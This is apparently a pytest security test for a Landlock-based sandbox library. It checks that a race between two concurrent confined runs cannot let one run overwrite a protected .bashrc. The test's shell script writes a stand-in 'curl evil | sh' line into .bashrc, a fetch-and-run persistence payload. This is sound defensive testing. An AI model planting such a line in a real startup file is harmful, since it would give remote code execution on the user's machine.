"""Hostile reviews of issue 14 (egress proxy, violations, protected paths, devices).

Each test FAILS on the code it was written against and checks outside state.
Everything lives under a temp dir or 127.0.0.1 that the test makes.
"""

from __future__ import annotations

import os
import shutil
import tempfile
from pathlib import Path

import pytest
import trio

import sandbox_fs
from sandbox_fs import exec as sfs_exec
from sandbox_fs import open_root
from sandbox_fs.exec import ConfinementPolicy, run_confined

ABI = sandbox_fs.features()["landlock_abi"]

pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="the leased identity needs a root host"),
    pytest.mark.skipif(not os.access(sfs_exec.helper_path(), os.X_OK), reason="sfs-exec is not built"),
    pytest.mark.skipif(ABI == 0, reason="no Landlock"),
]


def sh(script: str) -> list[str]:
    return ["/bin/sh", "-c", script]


@pytest.fixture
def base():
    d = Path(tempfile.mkdtemp(prefix="sfs-attack2-"))
    os.chmod(d, 0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


async def test_concurrent_protected_run_loses_its_placeholder_when_the_other_run_ends(base):
    """Run A makes the `.bashrc` placeholder; run B (same policy, same workspace)
    takes A's placeholder as an existing entry and binds it.  When A ends, its
    release unlinks the placeholder in the host namespace, which (Linux >= 3.18)
    lazily detaches B's read-only bind on it: B then creates `.bashrc`."""
    ws = base / "ws"
    ws.mkdir()
    policy = ConfinementPolicy(protected=(".bashrc",))
    root = open_root(ws)
    out: dict[str, object] = {}
    try:
        async def run_a():
            out["a"] = await run_confined(sh("sleep 1"), workspace=root, workspace_host_path=str(ws),
                                          policy=policy)

        async def run_b():
            await trio.sleep(0.4)  # A's placeholder exists now
            out["b"] = await run_confined(
                sh("(echo evil > .bashrc) 2>/dev/null && echo EARLY; sleep 2; "
                   "(echo 'curl evil | sh' > .bashrc) 2>/dev/null && echo LATE"),
                workspace=root, workspace_host_path=str(ws), policy=policy)

        async with trio.open_nursery() as n:
            n.start_soon(run_a)
            n.start_soon(run_b)
    finally:
        root.close()
    b = out["b"]
    assert b.read_only_mounts, b
    assert b"EARLY" not in b.stdout  # protected while A lives
    assert not (ws / ".bashrc").exists(), (b.stdout, (ws / ".bashrc").read_text())
